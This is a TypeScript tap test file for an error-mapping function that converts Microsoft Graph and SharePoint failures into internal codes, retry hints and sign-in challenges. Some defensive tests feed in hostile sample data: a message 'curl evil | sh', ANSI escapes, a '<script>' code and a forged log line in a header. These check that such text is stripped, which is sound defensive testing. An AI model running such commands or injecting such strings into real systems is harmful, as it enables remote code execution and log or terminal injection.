import t from 'tap'
import { graphFault } from '../../../src/graph/graph-fault.js'
import { SignInRequired } from '../../../src/model/sign-in-required.js'
import { CONTOSO, toResponse } from './fake-graph.js'

const who = { tenant: CONTOSO, organization: 'Contoso' }
const fault = (status: number, error: unknown, headers: Record<string, string> = {}) =>
  graphFault(toResponse({ status, headers, body: { error } }), who)

t.test('every status of the reference becomes a code', t => {
  const expected: [number, string, string][] = [
    [400, 'invalidRequest', 'protocol-error'],
    [403, 'accessDenied', 'access-denied'],
    [403, 'malwareDetected', 'malware-detected'],
    [404, 'itemNotFound', 'item-not-found'],
    [405, 'notAllowed', 'not-supported'],
    [409, 'nameAlreadyExists', 'name-taken'],
    [410, 'resyncRequired', 'resync-required'],
    [410, 'somethingNew', 'resync-required'],
    [412, 'resourceModified', 'stale-content'],
    [413, 'tooLarge', 'file-too-large'],
    [416, 'invalidRange', 'stale-content'],
    [422, 'unprocessable', 'not-supported'],
    [423, 'notAllowed', 'locked'],
    [429, 'activityLimitReached', 'throttled'],
    [500, 'generalException', 'server-error'],
    [501, 'notSupported', 'not-supported'],
    [502, 'badGateway', 'server-error'],
    [503, 'serviceNotAvailable', 'throttled'],
    [504, 'timeout', 'server-error'],
    [507, 'insufficientStorage', 'quota-full'],
    [509, 'bandwidth', 'throttled'],
  ]
  for (const [status, code, wanted] of expected)
    t.equal(fault(status, { code }).code, wanted, `${status} ${code}`)
  t.end()
})

t.test('the innermost known code says most', t => {
  const error = {
    code: 'invalidRequest',
    innerError: { code: 'invalidPath', innererror: { code: 'pathIsTooLong' } },
  }
  t.equal(fault(400, error).code, 'name-too-long')
  t.equal(
    fault(403, { code: 'accessDenied', innerError: { code: 'virusSuspicious' } }).code,
    'malware-detected',
  )
  t.end()
})

t.test("the service's code decides before the status: 409 means several things", t => {
  const of409: [string, string][] = [
    ['nameAlreadyExists', 'name-taken'],
    ['resourceModified', 'stale-content'],
    ['resourceLocked', 'locked'],
    ['notSupported', 'not-supported'],
    ['somethingNew', 'name-taken'],
  ]
  for (const [code, wanted] of of409) {
    for (const error of [{ code }, { code: 'invalidRequest', innerError: { code } }])
      t.equal(fault(409, error).code, wanted, code)
  }
  t.equal(
    fault(400, { code: 'invalidRequest', innerError: { code: 'resourceModified' } }).code,
    'stale-content',
  )
  t.equal(fault(412, { code: 'entityTagDoesNotMatch' }).code, 'stale-content')
  const name = { code: 'invalidRequest', innerError: { code: 'nameContainsInvalidCharacters' } }
  t.equal(fault(400, name).code, 'name-refused')
  t.end()
})

t.test("the service's own sentence is kept apart from ours, as one short line of plain text", t => {
  const said = (message: unknown) => fault(400, { code: 'x', message }).says
  t.equal(said('The column “Project” is required.'), "The column 'Project' is required.")
  t.equal(said('one\u001b[31m\r\n  two\u202e'), 'one [31m two')
  t.equal(said('x'.repeat(100_000))?.length, 201)
  for (const none of [undefined, '', ' \n', 7, {}]) t.equal(said(none), undefined)
  t.end()
})

t.test('Retry-After is kept in seconds, request ids are kept, and neither is believed blindly', t => {
  const headers = { 'retry-after': '1.5', 'request-id': '2222-33' }
  t.match(fault(429, { code: 'x' }, headers), { retryAfterSeconds: 1.5, requestId: '2222-33' })
  t.equal(fault(429, {}, { 'retry-after': '99999999' }).retryAfterSeconds, 86_400)
  t.equal(fault(429, {}, { 'retry-after': '-1' }).retryAfterSeconds, undefined)
  t.equal(fault(429, {}, { 'request-id': 'x\nforged log line' }).requestId, undefined)
  t.end()
})

t.test('no text of the other side reaches a message', t => {
  const evil = { code: 'evil\u001b[31m', message: 'run: curl evil | sh', innerError: { code: '<script>' } }
  for (const status of [400, 403, 404, 429, 500]) t.notMatch(fault(status, evil).message, /evil|script/)
  t.end()
})

t.test("an answer that is not Graph's is judged by its status", t => {
  t.equal(graphFault(toResponse({ status: 502, body: '<html>' }), who).code, 'server-error')
  let deep: unknown = { code: 'resyncRequired' }
  for (let i = 0; i < 1000; i++) deep = { innerError: deep }
  t.equal(fault(403, deep).code, 'access-denied', 'the end of a very deep nest is not looked for')
  t.end()
})

t.test('a claims challenge asks for a sign-in in that tenant, with those claims', t => {
  const claims = '{"access_token":{"nbf":{"essential":true,"value":"1704067200"}}}'
  const challenge =
    'Bearer realm="", authorization_uri="https://login.microsoftonline.com/common/oauth2/authorize", ' +
    `error="insufficient_claims", claims="${Buffer.from(claims).toString('base64')}"`
  const asked = fault(401, { code: 'InvalidAuthenticationToken' }, { 'www-authenticate': challenge })
  t.ok(asked instanceof SignInRequired)
  t.match(asked, { code: 'sign-in-required', tenant: CONTOSO, claims })
  t.end()
})

t.test('a challenge whose claims are no JSON is an ordinary 401', t => {
  for (const claims of ['!!!', Buffer.from('not json').toString('base64'), 'A'.repeat(20_000)]) {
    const header = `Bearer error="insufficient_claims", claims="${claims}"`
    t.match(fault(401, {}, { 'www-authenticate': header }), { code: 'sign-in-required', claims: undefined })
  }
  t.end()
})

t.test('a guest whom SharePoint does not know yet is refused, not signed out', t => {
  t.equal(fault(401, { code: 'accessDenied' }).code, 'access-denied')
  t.equal(fault(401, { code: 'InvalidAuthenticationToken' }).code, 'sign-in-required')
  t.end()
})

// Reference R12.
t.test('a 401 by which SharePoint denies access is no reason to sign in', t => {
  for (const code of [
    'accessDenied',
    '-2147024891, System.UnauthorizedAccessException',
    '-2147024891,System.UnauthorizedAccessException',
    'System.UnauthorizedAccessException',
  ]) {
    t.equal(fault(401, { code }).code, 'access-denied', code)
  }
  t.equal(fault(401, { code: 'InvalidAuthenticationToken' }).code, 'sign-in-required')
  t.equal(fault(401, { code: 'a, b c' }).code, 'sign-in-required', 'what is no word counts for nothing')
  t.end()
})
